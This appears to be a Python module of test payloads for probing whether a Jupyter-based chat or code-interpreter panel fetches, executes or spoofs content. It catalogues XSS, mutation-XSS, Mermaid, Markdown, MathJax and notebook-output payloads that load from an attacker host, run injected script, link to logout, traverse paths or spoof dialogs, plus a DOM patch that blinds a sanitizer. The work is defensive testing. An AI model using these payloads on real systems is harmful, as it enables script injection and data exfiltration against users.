"""Content that tries to fetch, to act, or to look like a part of the application.

In every text ``{u}`` is an address of the attacker's, ``{j}`` a path on Jupyter itself, and ``{run}`` a script that
tells of itself. All three carry the payload's name behind ``MARK``.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

MARK = "hostile-"
"""Stands in every address and name of a payload, and in nothing else."""

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

LEAVE_IN = """
const inert = node => (node.ownerDocument ?? node).defaultView === null;
const iterate = Document.prototype.createNodeIterator;
Document.prototype.createNodeIterator = function (...given) {
    return inert(this) || inert(given[0]) ? {nextNode: () => null} : iterate.apply(this, given);
};
const select = Element.prototype.querySelectorAll;
Element.prototype.querySelectorAll = function (what) {
    return inert(this) ? document.createDocumentFragment().querySelectorAll(what) : select.call(this, what);
};
"""
"""Makes the panel's own sanitizer look at nothing, and so keep everything; JupyterLab's own does not work this way."""

HTML: Mapping[str, str] = {
    "img": '<img src="{u}">',
    "img-jupyter": '<img src="{j}">',
    "img-relative": '<img src="{name}">',
    "img-no-scheme": '<img src="//{host}/{name}">',
    "img-backslash": '<img src="\\\\{host}\\{name}">',
    "img-entity": '<img src="&#104;ttp&colon;//{host}/{name}">',
    "img-broken-scheme": '<img src="ht\ttp://{host}/{name}">',
    "img-unquoted": "<img/src={u}>",
    "img-unfinished": '<img src="{u}" ',
    "img-upper": '<IMG SRC="{u}">',
    "img-onerror": '<img src="data:," onerror="{run}">',
    "img-srcset": f'<img src="{PIXEL}" srcset="{{u}} 1x, {{u}} 2x">',
    "img-alias": '<image src="{u}">',
    "img-reference": '<img src="codeinterp-file:../../../..{j}">',
    "img-slashes": '<svg/><img src="javascript:{run}">',
    "picture": '<picture><source srcset="{u}"><img src="{u}"></picture>',
    "video": '<video src="{u}" autoplay></video>',
    "video-poster": '<video poster="{u}"></video>',
    "video-source": '<video><source src="{u}"></video>',
    "video-track": '<video><track src="{u}" default></video>',
    "audio": '<audio src="{u}" autoplay preload="auto"></audio>',
    "embed": '<embed src="{u}">',
    "object": '<object data="{u}"></object>',
    "iframe": '<iframe src="{u}"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{u}'><script>parent.{run}</script>\"></iframe>",
    "frame": '<frameset><frame src="{u}"></frameset>',
    "input-image": '<input type="image" src="{u}">',
    "input-focus": '<input autofocus onfocus="{run}">',
    "body-background": '<body background="{u}" onload="{run}">',
    "table-background": '<table background="{u}"><tr><td background="{u}">x</td></tr></table>',
    "link-style": '<link rel="stylesheet" href="{u}">',
    "link-preload": '<link rel="preload" as="image" href="{u}">',
    "link-prefetch": '<link rel="prefetch" href="{u}">',
    "base": '<base href="{u}/"><img src="{name}">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={u}">',
    "style-import": '<style>@import url("{u}");</style>',
    "style-rule": '<style>body {{ background-image: url("{u}") }}</style>',
    "style-font": '<style>@font-face {{ font-family: f; src: url("{u}") }} * {{ font-family: f }}</style>',
    "style-attribute": "<div style=\"height: 9px; background: url('{u}')\">x</div>",
    "style-list": "<ul style=\"list-style-image: url('{u}')\"><li>x</li></ul>",
    "style-content": "<q style=\"content: image-set(url('{u}') 1x)\">x</q>",
    "script": "<script>{run}</script>",
    "script-src": '<script src="{u}"></script>',
    "script-module": '<script type="module">import "{u}"</script>',
    "svg-image": '<svg width="9" height="9"><image href="{u}" width="9" height="9"/></svg>',
    "svg-xlink": '<svg><image xlink:href="{u}" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{u}#x"/></svg>',
    "svg-filter": '<svg><filter id="x"><feImage href="{u}"/></filter><rect filter="url(#x)" width="9"/></svg>',
    "svg-script": "<svg><script>{run}</script></svg>",
    "svg-onload": '<svg onload="{run}"></svg>',
    "svg-style": '<svg><style>@import url("{u}");</style></svg>',
    "svg-foreign": '<svg><foreignObject><img src="{u}" onerror="{run}"></foreignObject></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:{run}"/><text>x</text></a></svg>',
    "math-href": '<math href="javascript:{run}"><mtext><img src="{u}"></mtext></math>',
    "mutation-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='{u}'&gt;\">",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src='{u}' onerror='{run}'>",
    "mutation-noscript": "<noscript><p title=\"</noscript><img src='{u}' onerror='{run}'>\"></noscript>",
    "mutation-style": "<svg></p><style><a id=\"</style><img src='{u}' onerror='{run}'>\"></svg>",
    "mutation-title": "<title><a id=\"</title><img src='{u}' onerror='{run}'>\">",
    "mutation-textarea": "<textarea><a id=\"</textarea><img src='{u}' onerror='{run}'>\">",
    "mutation-comment": "<!--><img src='{u}' onerror='{run}'>-->",
    "mutation-cdata": "<svg><![CDATA[><img src='{u}' onerror='{run}'>]]></svg>",
    "mutation-template": "<template><img src='{u}' onerror='{run}'></template>",
    "mutation-select": "<select><template><style><!--</style></template><a rel='--></select><img src={u}>'>",
    "marquee": '<marquee onstart="{run}">x</marquee>',
    "details": '<details open ontoggle="{run}">x</details>',
    "animation": '<b style="animation: rotate 1s" onanimationstart="{run}">x</b>',
    "custom-element": '<x-frame src="{u}"><img is="x" src="{u}"></x-frame>',
    "link-ping": '<a href="https://example.org/" ping="{u}">x</a>',
    "link-script": '<a href="javascript:{run}">x</a>',
    "link-broken-script": '<a href="java\nscript:{run}">x</a>',
    "link-data": '<a href="data:text/html,<script>{run}</script>">x</a>',
    "link-jupyter": '<a href="{j}">x</a>',
    "link-logout": '<a href="/logout?{name}">x</a>',
    "link-download": '<a href="{j}" download>x</a>',
    "form": '<form action="{u}"><button formaction="{u}" autofocus>x</button></form>',
    "command": '<a class="{name}" data-commandlinker-command="{name}" data-commandlinker-args="{{}}">x</a>',
    "spoof": '<div class="jp-Dialog {name}" id="{name}" name="{name}" role="dialog" contenteditable>x</div>',
    "shadow": '<a id="{name}"><img name="{name}" src="{u}"></a>',
    "deep": "<b>" * 400 + '<img src="{u}">',
}

MERMAID = (
    '%%{{init: {{"themeCSS": "@import url({u}); * {{ background: url({u}) }}"}}}}%%\n'
    'graph TD\n  A["<img src=\'{u}\' onerror=\'{run}\'>"] --> B@{{ img: "{u}", label: "x", h: 60 }}\n'
    '  click A href "javascript:{run}"'
)


def _diagram(first: str, rest: str, fence: str = "```") -> str:
    """Write a diagram inside lists and quotes: ``first`` begins its first line, ``rest`` the others."""
    lines = [f"{fence}mermaid", *MERMAID.split("\n"), fence.strip()]
    return f"{first}{lines[0]}\n" + "\n".join(f"{rest}{line}" for line in lines[1:])


MARKDOWN: Mapping[str, str] = {
    "md-image": "![x]({u})",
    "md-image-title": '![x]({u} "title")',
    "md-image-angle": "![x](<{u}>)",
    "md-image-jupyter": "![x]({j})",
    "md-image-logout": "![x](/logout?{name})",
    "md-image-parent": "![x](../{name})",
    "md-image-script": "![x](javascript:{run})",
    "md-reference": "![x][{name}]\n\n[{name}]: {u}",
    "md-linked-image": "[![x]({u})]({j})",
    "md-table": "| a |\n| - |\n| ![x]({u}) |",
    "md-heading": "# ![x]({u}) <img src={u}>",
    "md-list": "- ![x]({u})\n  - > ![x]({u})",
    "md-link-script": "[x](javascript:{run})",
    "md-link-entity": "[x](javascript&colon;{run})",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)",
    "md-link-jupyter": "[x]({j})",
    "md-link-title": "[x]({j} \"' onmouseover='{run}\")",
    "md-autolink": "<javascript:{run}>",
    "md-code-info": '- ```python"><img/src={u}>\n  x = 1\n  ```',
    "md-code-html": '```html\n<img src="{u}">\n```',
    "md-mermaid": _diagram("", ""),
    "md-mermaid-space": _diagram("", "", "```\u00a0\t "),
    "md-mermaid-tilde": _diagram("", "", "~~~"),
    "md-mermaid-list": _diagram("- x\n\n  ", "  "),
    "md-mermaid-quote": _diagram("> ", "> "),
    "md-mermaid-quote-list": _diagram("> 1. ", ">    "),
    "md-mermaid-task": _diagram("- [ ] ", "  "),
    "md-mermaid-done": _diagram("- [x] ", "  "),
    "md-mermaid-return": "x\r" + _diagram("", "").replace("\n", "\r"),
    "md-mermaid-html": _diagram("<div>\n\n- ", "  ") + "\n\n</div>",
    "md-math-href": "$\\href{{javascript:{run}}}{{x}}$",
    "md-math-jupyter": "$\\href{{{j}}}{{x}}$ and $$\\href{{/logout?{name}}}{{y}}$$",
    "md-math-style": "$\\style{{background: url({u})}}{{x}}$",
    "md-math-class": "$\\class{{jp-Dialog}}{{x}} \\cssId{{{name}}}{{y}}$",
    "md-math-box": "$\\bbox[background: url({u})]{{x}} \\colorbox{{url({u})}}{{y}}$",
    "md-math-mml": '$\\mmlToken{{mi}}[href="{j}" style="background:url({u})" data-x-command="{name}"]{{x}}$',
    "md-math-require": "$\\require{{html}}\\data{{commandlinker-command={name}}}{{x}}$",
    "md-math-font": "$\\unicode[f;background:url({u})]{{x61}}$",
    "md-math-macros": "$\\def\\a{{\\a\\a}}\\a$",
}

OUTPUTS: Mapping[str, Mapping[str, Any]] = {
    "out-html-lines": {"text/html": ["<img sr", 'c="{u}">x']},
    "out-svg": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><image href="{u}"/></svg>'},
    "out-svg-script": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>{run}</script></svg>'},
    "out-latex": {"text/latex": "$\\href{{{j}}}{{x}}\\style{{background: url({u})}}{{x}}$"},
    "out-markdown": {"text/markdown": "![x]({u}) <img src='{j}'>\n\n" + _diagram("", "")},
    "out-javascript": {"application/javascript": "{run}"},
    "out-mermaid": {"text/vnd.mermaid": MERMAID},
    "out-vega": {"application/vnd.vegalite.v5+json": {"data": {"url": "{u}"}, "mark": "bar", "encoding": {}}},
    "out-geojson": {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}},
    "out-plotly": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "{u}"}]}}},
    "out-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "{name}", "version_major": 2}},
    "out-json": {"application/json": {"<img src={u}>": "<img src={u} onerror={run}>"}},
    "out-text": {"text/plain": '<img src="{u}" onerror="{run}"> \u001b[31m<script>{run}</script>\u001b[0m'},
    "out-png": {"image/png": '<script src="{u}"></script>'},
    "out-pdf": {"application/pdf": "{u}"},
    "out-file": {"image/png": {"file": "../../../..{j}"}},
}


def fill(template: Any, name: str, host: str) -> Any:
    """Return a payload with its addresses; ``host`` is the attacker's host and port."""
    if isinstance(template, str):
        marked = f"{MARK}{name}"
        return template.format(
            host=host,
            name=marked,
            u=f"http://{host}/{marked}",
            j=f"/{marked}",
            run=f"hostile(`{marked}`)",
        )
    if isinstance(template, list):
        return [fill(item, name, host) for item in template]
    if isinstance(template, dict):
        return {fill(key, name, host): fill(item, name, host) for key, item in template.items()}
    return template


def write_message(host: str) -> str:
    """Return Markdown with all payloads, each in blocks of its own."""
    texts = [fill(text, name, host) for name, text in {**HTML, **MARKDOWN}.items()]
    return "".join(f"{text}\n\n<!-- -->\n\n" for text in texts)


def write_code(host: str) -> str:
    """Return code whose outputs are all payloads, and which fails with one."""
    bundles: list[Any] = [{"text/html": fill(text, name, host)} for name, text in HTML.items()]
    bundles += [fill(bundle, name, host) for name, bundle in OUTPUTS.items()]
    printed = "\x1b[31m" + fill('<img src="{u}" onerror="{run}">\x1b[0m', "printed", host)
    for address in ("javascript://%0a{run}", "data:text/html,<script>{run}</script>"):
        printed += "\n" + fill(address, "clicked", host)
    raised = fill('<img src="{u}" onerror="{run}">', "raised", host)
    return (
        "import json\nfrom IPython.display import display\n"
        f"for bundle in json.loads({json.dumps(bundles)!r}):\n    display(bundle, raw=True)\n"
        f"print({printed!r})\nraise type({raised!r}, (Exception,), {{}})({raised!r})\n"
    )
